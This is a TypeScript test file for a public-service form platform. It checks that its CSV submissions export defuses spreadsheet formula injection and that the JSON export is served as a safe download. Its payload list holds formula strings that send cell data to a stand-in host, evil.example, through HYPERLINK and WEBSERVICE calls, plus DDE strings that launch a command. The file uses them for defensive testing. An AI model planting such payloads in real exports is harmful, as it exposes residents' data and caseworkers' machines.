/*
 * Issue 10, item 5 (CSV): a caseworker opens the submissions export in a spreadsheet. A resident
 * (or a journey author, through option labels) who makes a cell start with =, +, - or @ (or a tab
 * or carriage return) could make Excel or Calc run a formula — fetch a URL with the other
 * residents' data, or worse. Through the API: hostile answers in every kind of field, exported as
 * CSV, read back with a parser of our own; no cell may start like a formula, and each cell still
 * says what was typed.
 */
import type { Journey } from '@fingerpost/schema';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/exports/testing/parse-csv';
import { type Started, start, submit } from '../../src/testing/flows';
import { startTestServer, type TestServer, TOKENS } from '../../src/testing/test-server';

/** Formula starts from OWASP's CSV injection guidance, with payloads that exfiltrate or run commands. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A2&B2,"Click for your refund")',
  "+SUM(1,1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example/?"&A2)',
  '=1+1',
];

const CSV_JOURNEY = {
  id: 'csv-test',
  version: '1.0.0',
  title: { en: 'CSV test' },
  description: { en: 'Answers made of formulas' },
  serviceArea: 'other',
  owner: { name: 'Reliability suite' },
  languages: ['en'],
  referencePrefix: 'CSV',
  roles: [{ id: 'officer', name: 'Officer' }],
  fields: {
    name: { type: 'text' },
    notes: { type: 'longText' },
    // A journey author's option label, shown in the export as the answer.
    pick: {
      type: 'singleChoice',
      options: [{ value: 'f', label: { en: '=HYPERLINK("https://evil.example","x")' } }],
    },
    home: { type: 'address' },
    people: { type: 'group', fields: { who: { type: 'text' } } },
    count: { type: 'number' },
  },
  start: 'about',
  steps: [
    {
      id: 'about',
      type: 'question',
      title: { en: 'About' },
      components: [
        { field: 'name', label: { en: 'Name' } },
        { field: 'notes', label: { en: 'Notes' } },
        { field: 'pick', label: { en: 'Pick' } },
        { field: 'home', label: { en: 'Home' } },
        { field: 'count', label: { en: 'Count' }, validation: { min: -1000 } },
      ],
      next: 'people',
    },
    {
      id: 'people',
      type: 'addAnother',
      group: 'people',
      title: { en: 'People' },
      itemName: { en: 'person' },
      components: [{ field: 'who', label: { en: 'Who' } }],
      next: 'check',
    },
    { id: 'check', type: 'checkAnswers', next: 'sent' },
    { id: 'sent', type: 'end', outcome: 'submitted', title: { en: 'Sent' } },
  ],
} as unknown as Journey;

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({
    journeys: [],
    overrides: {
      rateLimit: false,
      tokens: {
        caseworkers: { [TOKENS.caseworker]: { id: 'cw', roles: ['officer'] } },
        designers: { [TOKENS.designer]: { id: 'd' } },
      },
    },
  });
  expect(
    (await s.call('POST', '/api/v1/journeys', { token: TOKENS.designer, body: CSV_JOURNEY })).status,
  ).toBe(201);
  expect(
    (await s.call('POST', '/api/v1/journeys/csv-test/versions/1.0.0/publish', { token: TOKENS.designer }))
      .status,
  ).toBe(200);
}, 60_000);
afterAll(() => s?.stop());

async function apply(formula: string, count: number): Promise<Started> {
  const app = await start(s, 'csv-test');
  await submit(s, app, 'about', {
    name: formula,
    notes: `${formula}\n${formula}`,
    pick: 'f',
    home: { line1: formula, town: formula, postcode: 'SA46 0AA' },
    count,
  });
  const added = await s.call('POST', `/api/v1/instances/${app.instanceId}/steps/people/items`, {
    token: app.token,
    body: { answers: { who: formula } },
  });
  expect(added.status, JSON.stringify(added.body)).toBe(200);
  await submit(s, app, 'people');
  await submit(s, app, 'check');
  return app;
}

describe('CSV export against formula injection', () => {
  it(`${FORMULAS.length} formula payloads in text, long text, option labels, addresses, groups and negative numbers: no cell starts like a formula`, async () => {
    for (const [i, formula] of FORMULAS.entries()) await apply(formula, -5 - i);
    const r = await fetch(`${s.url}/api/v1/journeys/csv-test/versions/1.0.0/submissions.csv?include=all`, {
      headers: { authorization: `Bearer ${TOKENS.caseworker}` },
    });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('text/csv');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/);
    const rows = parseCsv(await r.text());
    const [header, ...data] = rows;
    expect(data).toHaveLength(FORMULAS.length);
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous, 'cells a spreadsheet would read as a formula').toEqual([]);
    // Each cell still carries what was typed, behind the apostrophe that makes it text.
    const column = (name: string) => header!.indexOf(name);
    for (const [i, row] of data.entries()) {
      const formula = FORMULAS.find((f) => row[column('name')] === `'${f}`);
      expect(formula, `row ${i}: name cell ${row[column('name')]}`).toBeDefined();
      expect(row[column('notes')]).toBe(`'${formula}\n${formula}`);
      expect(row[column('pick')]).toBe('\'=HYPERLINK("https://evil.example","x")');
      expect(row[column('home')]!.startsWith(`'${formula}`)).toBe(true);
      expect(row[column('count')]).toMatch(/^'-\d+$/);
    }
  });

  it('the JSON export is a download, never rendered as a page', async () => {
    const r = await fetch(`${s.url}/api/v1/journeys/csv-test/versions/1.0.0/submissions.json`, {
      headers: { authorization: `Bearer ${TOKENS.caseworker}` },
    });
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('application/json');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('cache-control')).toBe('no-store');
  });
});
